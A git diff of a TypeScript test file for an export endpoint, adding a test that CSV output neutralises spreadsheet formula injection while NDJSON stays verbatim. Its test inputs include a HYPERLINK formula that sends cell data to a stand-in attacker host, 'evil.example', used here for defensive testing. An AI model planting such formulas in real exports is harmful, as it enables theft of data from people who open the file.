@@ -3,13 +3,24 @@ import http from 'node:http';
 import { describe, expect, it } from 'vitest';
 import { DAY_MS, HOUR_MS } from '../../src/time.js';
 import { useTestApp } from '../helpers/app.js';
-import { describeEachMode, modeAvailable } from '../helpers/db.js';
+import { describeEachMode, modeAvailable, withAdmin } from '../helpers/db.js';
 import { startServer } from '../helpers/server.js';
 import { daysAgo, isoDate } from '../helpers/time.js';
 
 describeEachMode('GET /v1/export', (mode) => {
   const t = useTestApp(mode);
   const day = daysAgo(5);
+  /** An NDJSON export, its body as text (supertest parses only JSON bodies by itself). */
+  const ndjson = (range: { from: string; to: string }) =>
+    t.http
+      .get('/v1/export')
+      .query(range)
+      .buffer(true)
+      .parse((res, done) => {
+        let text = '';
+        res.on('data', (c: Buffer) => (text += c.toString()));
+        res.on('end', () => done(null, text));
+      });
 
   it('streams the events of a range, oldest first, as NDJSON or CSV with a filename', async () => {
     const res0 = await t.http.post('/v1/events').send({
@@ -22,15 +33,7 @@ describeEachMode('GET /v1/export', (mode) => {
     });
     expect(res0.body.accepted).toBe(4);
     const range = { from: isoDate(day), to: isoDate(day + DAY_MS) };
-    const nd = await t.http
-      .get('/v1/export')
-      .query(range)
-      .buffer(true)
-      .parse((res, done) => {
-        let text = '';
-        res.on('data', (c: Buffer) => (text += c.toString()));
-        res.on('end', () => done(null, text));
-      });
+    const nd = await ndjson(range);
     expect(nd.status).toBe(200);
     expect(nd.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
     expect(nd.headers['content-disposition']).toBe(
@@ -68,6 +71,34 @@ describeEachMode('GET /v1/export', (mode) => {
     expect(csv.text).toContain(`${new Date(day + 2 * HOUR_MS).toISOString()},default,click,"b","/a,""b""\nc",2,"x1"\r\n`);
   });
 
+  it("neutralises in CSV a cell a spreadsheet would run as a formula (prefix '), and keeps NDJSON verbatim", async () => {
+    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+2', '-2+3', '@SUM(A1)', '\tx', '\rx'];
+    const time = new Date(day + 3 * HOUR_MS).toISOString();
+    const res = await t.http.post('/v1/events').send({
+      events: formulas.map((f, i) => ({ user: f, kind: 'view', time, page: f, id: `${f}${i}` })),
+    });
+    expect(res.body).toMatchObject({ accepted: formulas.length, rejected: [] });
+    const range = { from: isoDate(day), to: isoDate(day + DAY_MS) };
+
+    const csv = await t.http.get('/v1/export').query({ ...range, format: 'csv' });
+    expect(csv.status).toBe(200);
+    const quoted = (v: string) => `"'${v.replaceAll('"', '""')}"`;
+    for (const [i, f] of formulas.entries()) {
+      expect(csv.text).toContain(`${time},default,view,${quoted(f)},${quoted(f)},1,${quoted(`${f}${i}`)}\r\n`);
+    }
+    // Only the first character counts: the same characters later in a value change nothing.
+    await t.http.post('/v1/events').send({ events: [{ user: 'a=b', kind: 'view', time, page: '/x-y@z' }] });
+    const again = await t.http.get('/v1/export').query({ ...range, format: 'csv' });
+    expect(again.text).toContain(`${time},default,view,"a=b","/x-y@z",1,\r\n`);
+
+    const nd = await ndjson(range);
+    const users = (nd.body as string)
+      .trimEnd()
+      .split('\n')
+      .map((l) => (JSON.parse(l) as { user: string }).user);
+    expect(users).toEqual(expect.arrayContaining(formulas));
+  });
+
   it('refuses a bad range with 400', async () => {
     const res = await t.http.get('/v1/export').query({ from: isoDate(day + DAY_MS), to: isoDate(day) });
     expect(res.status).toBe(400);
@@ -89,15 +120,20 @@ describe('GET /v1/export of 1,000,000 rows', () => {
 
   it('streams them in flat memory', { timeout: 120_000 }, async () => {
     const from = daysAgo(3);
-    // Only the raw rows matter here: the aggregate trigger is skipped (replica role) to save time.
-    await t.db.sql.begin(async (tx) => {
-      await tx`set local session_replication_role = replica`;
-      await tx`
+    // Only the raw rows matter here: the aggregate trigger is skipped (replica role, which
+    // takes a superuser: the service's role is none) to save time.
+    await withAdmin(
+      (admin) =>
+        admin.begin(async (tx) => {
+          await tx`set local session_replication_role = replica`;
+          await tx`
         insert into events (site, time, kind, user_id, page, weight)
         select 'big', ${new Date(from)}::timestamptz + i * interval '100 ms', 'view', 'user-' || (i % 50000), '/page/' || (i % 100), 1
         from generate_series(0, 999999) i
       `;
-    });
+        }),
+      new URL(t.db.url).pathname.slice(1),
+    );
     // The service in a process of its own (as npm start runs it), so that only its memory
     // is measured: its resident set every 100,000 rows. The first sample is taken once the
     // stream is under way; flat means no growth with the other 900,000 rows.
